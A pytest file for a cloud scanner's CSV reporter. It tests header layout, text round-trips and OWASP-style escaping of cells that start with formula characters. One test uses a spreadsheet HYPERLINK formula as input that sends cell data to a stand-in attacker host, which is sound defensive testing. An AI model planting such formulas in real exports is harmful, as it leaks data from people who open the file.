"""
CSV output, read back with the csv module; formula-injection escaping per OWASP.
"""

from __future__ import annotations

import csv
import io
import json

from hypothesis import given
from hypothesis import strategies as st
from report_helpers import AZ_VM, make_finding, render, sample_findings

from scanner.report import EXTENSIONS, FORMATS
from scanner.report.csv_report import CsvReporter

HEADER = [
    "finding_id", "status", "severity", "policy_id", "title",
    "resource_id", "resource_type", "resource_name", "location", "account", "provider",
    "message", "evidence", "remediation", "frameworks", "source", "line", "waiver", "baseline",
]


def rows(findings):
    text = render(CsvReporter(), findings)
    return list(csv.reader(io.StringIO(text, newline="")))


def test_registered_as_a_format():
    assert FORMATS["csv"] is CsvReporter and EXTENSIONS["csv"] == "csv"


def test_header_and_one_row_per_finding_of_every_status():
    findings = sample_findings()
    header, *body = rows(findings)
    assert header == HEADER
    assert len(body) == len(findings)
    by_col = [dict(zip(header, r)) for r in body]
    assert [r["status"] for r in by_col] == [f.status for f in findings]
    first = by_col[0]
    assert first["finding_id"] == findings[0].id
    assert first["resource_id"] == AZ_VM  # <, &, > and " survive the round trip
    assert first["frameworks"] == "SOC 2 CC6.1; SOC 2 CC6.7"
    assert first["line"] == "12" and first["source"] == "fixtures/azure/estate.json"
    assert json.loads(first["evidence"]) == [
        {"path": "properties.securityProfile.securityType", "observed": "TrustedLaunch"},
        {"path": "properties.securityProfile.uefiSettings.vTpmEnabled", "observed": None,
         "missing": True},
    ]
    waived = by_col[4]
    assert json.loads(waived["waiver"])["owner"] == "platform-team"
    aws = by_col[5]
    assert aws["line"] == "" and aws["provider"] == "aws"


def test_rows_end_with_crlf_per_rfc4180():
    text = render(CsvReporter(), [make_finding()])
    assert text.count("\r\n") == 2 and text.endswith("\r\n")


def test_awkward_text_round_trips():
    name = 'vm, "quoted"\nsecond line\r\nthird — ünïcødé 雲\x07\x1b[31m'
    f = make_finding(message=name, resource={"id": AZ_VM, "name": name, "type": "t"})
    (_, body) = rows([f])
    cells = dict(zip(HEADER, body))
    assert cells["resource_name"] == name
    assert cells["message"] == name


def test_hyperlink_formula_in_a_resource_name_is_neutralised():
    evil = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
    f = make_finding(resource={"id": "r1", "name": evil, "type": "t"})
    (_, body) = rows([f])
    cells = dict(zip(HEADER, body))
    assert cells["resource_name"] == "'" + evil


def test_every_formula_start_is_escaped():
    for lead in ("=", "+", "-", "@", "\t", "\r"):
        f = make_finding(title=lead + "1+1", resource={"id": "r", "name": lead + "cmd", "type": "t"})
        (_, body) = rows([f])
        cells = dict(zip(HEADER, body))
        assert cells["title"] == "'" + lead + "1+1"
        assert cells["resource_name"] == "'" + lead + "cmd"
    plain = dict(zip(HEADER, rows([make_finding(title="a=b")])[1]))
    assert plain["title"] == "a=b"  # only the first character matters


@given(st.text(max_size=40))
def test_any_text_reads_back_and_never_starts_a_formula(text):
    f = make_finding(message=text, resource={"id": "r", "name": text, "type": "t"})
    (_, body) = rows([f])
    cell = dict(zip(HEADER, body))["resource_name"]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell == (("'" + text) if text[:1] in "=+-@\t\r" and text else text)


def test_scan_cli_writes_csv(tmp_path):
    from click.testing import CliRunner

    from scanner.cli import main

    out = tmp_path / "r.csv"
    res = CliRunner().invoke(main, ["scan", "fixtures/azure", "--format", "csv", "-o", str(out)])
    assert res.exit_code in (0, 1), res.output
    with out.open(newline="", encoding="utf-8") as fh:
        header, *body = list(csv.reader(fh))
    assert header == HEADER and body
    findings = [r for r in body if r[0]]  # rows without a finding id: what was not judged
    assert findings and {r[1] for r in findings} <= {"pass", "fail", "unknown", "error", "waived"}
    assert {r[1] for r in body if not r[0]} <= {"uncovered", "not_applicable"}
